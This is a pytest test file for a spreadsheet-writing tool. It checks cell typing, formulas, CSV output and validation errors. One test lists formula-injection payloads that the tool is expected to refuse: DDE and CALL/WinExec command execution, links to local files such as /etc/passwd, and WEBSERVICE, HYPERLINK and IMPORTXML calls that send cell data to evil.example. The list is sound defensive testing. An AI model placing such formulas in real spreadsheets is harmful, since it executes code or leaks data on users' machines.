"""create_spreadsheet: cells are what they say, and no formula reaches out of the table."""

import datetime
from pathlib import Path

import openpyxl
import pytest

from skales.core.errors import ToolError
from skales.core.json import JsonValue
from tests.tools.conftest import Call

DAY = datetime.datetime.fromisoformat("2026-05-31")
NOON = datetime.datetime.fromisoformat("2026-05-31 12:30")


def names(folder: Path) -> list[str]:
    return [path.name for path in folder.iterdir()]


def one(*rows: list[JsonValue]) -> list[JsonValue]:
    return [{"name": "Costs", "rows": list(rows)}]


@pytest.mark.anyio
async def test_cells_are_stored_as_what_they_are(call: Call, workspace: Path) -> None:
    cells: list[JsonValue] = [
        3,
        "3.5",
        "-12",
        "007",
        "2026-05-31",
        "2026-05-31 12:30",
        "2026-13-01",
        True,
        None,
        "+49 30",
    ]
    await call("create_spreadsheet", sheets=one(["a"] * 10, cells), filename="a.xlsx")
    sheet = openpyxl.load_workbook(workspace / "a.xlsx")["Costs"]
    stored = [cell.value for cell in sheet[2]]
    assert stored == [3, 3.5, -12, "007", DAY, NOON, "2026-13-01", True, None, "+49 30"]
    assert sheet["E2"].number_format == "yyyy-mm-dd"
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold


@pytest.mark.anyio
async def test_formulas_and_widths_are_kept_and_the_reader_shows_them(call: Call, workspace: Path) -> None:
    sheets: list[JsonValue] = [
        {"name": "Costs", "rows": [["Item", "Euro"], ["Tea", 3.5], ["Sum", "=SUM(B2:B2)"]], "widths": [30]},
        {"name": "Blank header", "rows": [[1, 2]], "header": False},
    ]
    result = await call("create_spreadsheet", sheets=sheets, filename="a")
    assert result.summary.startswith("Made a.xlsx (2 sheets, 4 rows")
    assert "Formulas are worked out when the file is opened" in result.text
    book = openpyxl.load_workbook(workspace / "a.xlsx")
    assert book["Costs"].column_dimensions["A"].width == 30
    assert book["Blank header"].freeze_panes is None
    text = (await call("read_file", path="a.xlsx")).text
    assert "3\tSum\t=SUM(B2:B2)" in text


@pytest.mark.anyio
@pytest.mark.parametrize("ending", ["xlsx", "csv"])
@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|'/c calc'!A0",
        "=DDE(\"cmd\";\"/c calc\";\"x\")",
        "@SUM(1)+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "='[other.xlsx]Sheet1'!A1",
        "=[1]Sheet1!A1",
        "='C:\\folder\\[b.xlsx]Sheet'!A1",
        "='file:///etc/passwd'#$Sheet.A1",
        "=WEBSERVICE(\"http://evil.example/?\"&A1)",
        "=_xlfn.WEBSERVICE(\"http://evil.example\")",
        "= hyperlink(\"http://evil.example/?\"&A1,\"x\")",
        "=1+IMPORTXML(\"http://evil.example\",\"//a\")",
        "=IMAGE(\"http://evil.example/a.png\")",
        "=CALL(\"Kernel32\",\"WinExec\",\"JFFFF\",\"calc\")",
        "=RTD(\"prog\",\"\",\"x\")",
    ],
)  # fmt: skip
async def test_a_formula_that_reaches_out_is_refused(call: Call, workspace: Path, formula: str, ending: str) -> None:
    with pytest.raises(ToolError) as caught:
        await call("create_spreadsheet", sheets=one(["a", formula]), filename=f"a.{ending}")
    assert "column 2, row 1 of Costs" in caught.value.message
    assert names(workspace) == []


@pytest.mark.anyio
@pytest.mark.parametrize(
    "formula",
    [
        '=IF(A1>1,"a|b","call(x)")',
        "=Table1[Price]*2",
        "=SUM('Other sheet'!A1:A9)",
        "=INDEX(A:A,MATCH(1,B:B,0))",
        "- a point | with a bar",
        "@someone",
        "=TEXT(A1,\"[red]0\")&Costs!A1",
        "=",
    ],
)  # fmt: skip
async def test_a_formula_about_its_own_table_is_written(call: Call, workspace: Path, formula: str) -> None:
    await call("create_spreadsheet", sheets=one(["a", formula]), filename="a.xlsx")
    assert openpyxl.load_workbook(workspace / "a.xlsx")["Costs"]["B1"].value == formula


@pytest.mark.anyio
async def test_a_csv_file_is_what_programs_take_it_for(call: Call, workspace: Path) -> None:
    await call("create_spreadsheet", sheets=one(["Ort", "Größe"], ['a "b"', "1,5"], [None, "x\ny"]), filename="a.csv")
    assert (workspace / "a.csv").read_bytes() == (
        b"\xef\xbb\xbf" + 'Ort,Größe\r\n"a ""b""","1,5"\r\n,"x\ny"\r\n'.encode()
    )
    assert '2\ta "b"\t1,5\n3\t\tx ⏎ y' in (await call("read_file", path="a.csv")).text


@pytest.mark.anyio
@pytest.mark.parametrize(
    ("sheets", "words"),
    [
        ([{"name": "a/b", "rows": [[1]]}], "cannot be the name of a sheet"),
        ([{"name": "x" * 32, "rows": [[1]]}], "cannot be the name of a sheet"),
        ([{"name": "A", "rows": [[1]]}, {"name": "a", "rows": [[1]]}], "Two sheets are named 'a'"),
        ([{"name": "A"}], "has no rows"),
        ([{"name": "A", "rows": [1]}], "row 1 of A is no list"),
        ([{"name": "A", "rows": [[{"x": 1}]]}], "no plain value"),
        ([{"name": "A", "rows": [["x" * 32_768]]}], "32,768 characters"),
        ([{"name": "A", "rows": [[1]], "colour": "red"}], "has 'colour'"),
        ([{"name": "A", "rows": [[1] * 1000] * 501}], "more than 500,000 cells"),
        ([{"name": "A", "rows": [[1]], "widths": [0]}], "no list of numbers"),
    ],
)
async def test_what_is_no_table_is_explained(call: Call, workspace: Path, sheets: list[JsonValue], words: str) -> None:
    with pytest.raises(ToolError) as caught:
        await call("create_spreadsheet", sheets=sheets, filename="a.xlsx")
    assert words in caught.value.message
    assert names(workspace) == []


@pytest.mark.anyio
async def test_a_csv_file_takes_one_sheet_only(call: Call) -> None:
    two: list[JsonValue] = [{"name": "A", "rows": [[1]]}, {"name": "B", "rows": [[1]]}]
    with pytest.raises(ToolError) as caught:
        await call("create_spreadsheet", sheets=two, filename="a.csv")
    assert "one sheet" in caught.value.message
